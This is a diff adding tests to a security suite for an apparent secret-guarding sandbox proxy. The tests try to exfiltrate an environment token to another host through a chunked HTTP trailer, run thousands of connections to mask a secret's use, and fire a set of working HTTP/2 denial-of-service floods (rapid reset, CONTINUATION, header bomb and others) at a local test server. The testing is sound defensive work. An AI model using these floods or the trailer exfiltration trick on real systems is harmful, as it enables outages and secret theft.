@@ -16,7 +16,7 @@ import urllib.request
 import pytest
 
 from kit import IS_ROOT, proc_start, wait_for
-from net_kit import PYTHON, Cell
+from net_kit import PYTHON, Cell, HttpCanary
 from tls_kit import Authority, H2Upstream, Upstream, believe, set_secret
 
 VALUE = "v4lue/With+odd=chars-77"
@@ -232,6 +232,22 @@ def test_a_stranger_is_not_told_in_pieces(home, upstream):
     assert not upstream.seen(VALUE) and not upstream.seen(placeholder(cell)), r.out
 
 
+def test_a_stranger_is_not_told_behind_the_body(home, upstream):
+    """A placeholder in the trailer of a request, whatever the host."""
+    canary = HttpCanary()
+    cell = bound(home, upstream, "bearer", "--allow", f"other.test:{canary.port}=127.0.0.1")
+    try:
+        send = f"""b"POST / HTTP/1.1\\r\\nHost: other.test:{canary.port}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nX-Sum: " + word + b"\\r\\n\\r\\n" """
+        cell.tries(f"word = os.environ['TOK'].encode(); say(tcp('other.test', {canary.port}, {send}, 1))")
+        assert not [s for s in canary.seen if placeholder(cell).encode() in s], canary.seen
+        assert cell.event("denied", what="secret")["secret"] == "TOK"
+        # the control: another word there does arrive
+        cell.tries(f"word = b'ordinary'; say(tcp('other.test', {canary.port}, {send}, 1))")
+        assert [s for s in canary.seen if b"X-Sum: ordinary" in s], canary.seen
+    finally:
+        canary.close()
+
+
 # -- echoes: T-051, T-052 ----------------------------------------------------------------------------------------------
 def forms(value):
     out = {value, urllib.parse.quote(value, safe=""), base64.b64encode(value.encode()).decode().rstrip("=")}
@@ -270,6 +286,76 @@ def test_an_echo_of_the_query_is_masked(home, upstream):
     assert not [f for f in forms(VALUE) if f in body]
 
 
+# A client that says what it likes; PORT stands for the host's.
+FRAMES = r"""
+def frame(t, flags, sid, body=b""): return struct.pack(">I", len(body))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + body
+def lit(n, v): return b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v
+def head(path=b"/f", more=b""): return b"\x82\x87" + lit(b":authority", b"api.test:PORT") + lit(b":path", path) + more
+def flood(make, n, window=65535):
+    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
+    c.set_alpn_protocols(["h2"])
+    try:
+        with c.wrap_socket(socket.create_connection(("api.test", PORT)), server_hostname="api.test") as s:
+            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, window)))
+            for i in range(n): s.sendall(make(i))
+    except OSError: pass
+"""
+FLOODS = {
+    "rapid reset": "lambda i: b''.join(frame(1, 5, 1 + 2 * (100 * i + k), head()) + frame(3, 0, 1 + 2 * (100 * i + k), b'\\0\\0\\0\\x08') for k in range(100)), 100",
+    "settings": "lambda i: frame(4, 0, 0) * 1000, 50",
+    "ping": "lambda i: frame(6, 0, 0, b'12345678') * 1000, 50",
+    "continuation": "lambda i: (frame(1, 1, 1, head()) if not i else b'') + frame(9, 0, 1, lit(b'a', b'b' * 100) * 150), 100",
+    "empty continuation": "lambda i: (frame(1, 1, 1, head()) if not i else b'') + frame(9, 0, 1) * 1000, 50",
+    "no window": "lambda i: frame(1, 5, 1 + 2 * i, head()), 300, 0",
+    "too much window": "lambda i: frame(8, 0, 0, b'\\x7f\\xff\\xff\\xff'), 50",
+    "empty data": "lambda i: (frame(1, 4, 1, head()) if not i else b'') + frame(0, 0, 1) * 1000, 50",
+    "priority": "lambda i: b''.join(frame(2, 0, 1 + 2 * (1000 * i + k), b'\\0\\0\\0\\0\\x10') for k in range(1000)), 20",
+    "header bomb": "lambda i: frame(1, 5, 1 + 2 * i, head(more=b'\\x40\\x01a\\x7f\\x81\\x1f' + b'b' * 4000 + b'\\xbe' * 8000)), 50",
+    "extended connect": "lambda i: frame(1, 4, 1 + 2 * i, lit(b':method', b'CONNECT') + lit(b':protocol', b'websocket') + b'\\x87' + lit(b':authority', b'api.test:PORT') + lit(b':path', b'/no')), 20",
+    "two hosts": "lambda i: frame(1, 5, 1 + 2 * i, head(b'/no', lit(b'host', b'other.test'))), 20",
+    "push": "lambda i: frame(5, 4, 1, b'\\0\\0\\0\\2' + head(b'/no')), 20",
+}
+
+
+def test_http2_floods(home, authority, tmp_path):
+    """What is known to bring servers down: the same gate goes on, small as before."""
+    believe(home, authority.pem)
+    up = H2Upstream(authority, str(tmp_path))
+    try:
+        cell = bound(home, up)
+        works = lambda: curl(cell, "--http2", f"https://api.test:{up.port}/", "-o", "/dev/null")[0] == "200"
+        assert works()
+        gate = cell.gate()
+        for name, flood in FLOODS.items():
+            cell.tries((FRAMES + f"flood({flood}); say(1)").replace("PORT", str(up.port)))
+            assert works() and cell.gate() == gate, name
+        with open(f"/proc/{gate[0]}/status", encoding="ascii") as f:
+            assert int(re.search(r"VmHWM:\s+(\d+)", f.read()).group(1)) < 64 << 10
+        assert "/no" not in [q[":path"] for q in up.requests]
+    finally:
+        up.close()
+
+
+def test_a_secret_is_not_used_unseen(home, upstream):
+    """Any number of other events in the same second does not hide it."""
+    cell = bound(home, upstream)
+    for i in range(3):
+        p, said = cell.starts("""
+for k in range(4000):
+    s = socket.socket(); s.setblocking(False)
+    try: s.connect((f"198.19.{k >> 8 & 255}.{k & 127 | 1}", 443))
+    except OSError: pass
+    if k == 1000: say("flood")
+    if k % 500 == 499: time.sleep(0.01)""")
+        assert said() == "flood"
+        status, _, r = curl(cell, f"https://api.test:{upstream.port}/{i}")
+        assert status == "200", r.err
+        p.wait(30)
+        p.stdout.close()
+        p.stderr.close()
+    wait_for(lambda: len(cell.events("secret.used")) == 3, why="an event for each use")
+
+
 def test_http2(home, authority, tmp_path):
     """The same, where host and client speak HTTP/2."""
     believe(home, authority.pem)
@@ -284,6 +370,15 @@ def test_http2(home, authority, tmp_path):
             assert VALUE not in body and VALUE[:-2] not in body
         _, body, _ = curl(cell, "--http2", f"https://api.test:{up.port}/x", "-H", "X-Other: $TOK")
         assert "/x" not in [q[":path"] for q in up.requests]
+        # A policy that denies the request under way ends it, and the connection serves others.
+        p = home.popen("exec", cell.id, "--", "curl", "-sSN", "-m", "30", "--http2", f"https://api.test:{up.port}/hang")
+        assert p.stdout.read(4) == b"half"
+        cell.set("--deny", f"api.test:{up.port}/hang")
+        assert p.wait(20) not in (0, 28) and p.stdout.read() == b""
+        p.stdout.close()
+        p.stderr.close()
+        assert "request under way" in cell.event("denied", what="policy")["why"]
+        assert curl(cell, "--http2", f"https://api.test:{up.port}/")[0] == "200"
     finally:
         up.close()
 
